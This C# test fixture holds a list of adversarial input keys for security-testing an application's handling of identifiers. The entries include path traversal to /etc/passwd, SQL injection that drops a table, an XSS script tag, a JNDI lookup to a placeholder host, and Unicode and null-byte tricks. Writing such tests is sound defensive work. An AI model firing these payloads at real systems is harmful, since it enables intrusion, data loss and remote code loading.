namespace Regionetwerk.House.Tests.Afscherming;

/// <summary>Keys that are made to find a hole.</summary>
public static class Vijandig
{
    /// <summary>What a browser would run when it came back as it was sent.</summary>
    public const string Script = "\"'><script>alert(1)</script>";

    /// <summary>All of them.</summary>
    public static IReadOnlyList<string> Sleutels { get; } =
    [
        "GM0405/../GM0014", "GM0405%2F..%2FGM0014", "../../etc/passwd", "gm0405", "GM0405 ", " GM0405", "GM0405\0", "GM0405\n", "GМ0405", "ＧＭ0405", "GM٠٤٠٥", "GM040５",
        "GM0405\u200b", "T:GM0405", "N:ambassadeurs-brugfunctionarissen", "O", "L", "' OR 1=1 --", "'; DROP TABLE events; --", "\"", "%", "_", "%GEHEIM%", "GEHEI_", "\\", "\\%",
        "*", "[", "", "   ", "\0", "\ud83d\ude00", "systeem", "null", "${jndi:ldap://voorbeeld.test/a}", Script, new string('A', 10_000), new string('%', 5_000),
    ];

    /// <summary>One of each kind, where each costs a page.</summary>
    public static IReadOnlyList<string> Enkele { get; } =
        [Script, "GM0405/../GM0014", "GМ0405", "GM0405\0", "'; DROP TABLE events; --", "${jndi:ldap://voorbeeld.test/a}", "GM0405\n", " ", new string('A', 4_000)];

    /// <summary>One of each kind, and of all a third in turn: of many places that are alike, all together get them all.</summary>
    public static IEnumerable<string> Beurt(int nummer) => Enkele.Union(Sleutels.Where((_, i) => i % 3 == nummer % 3));
}
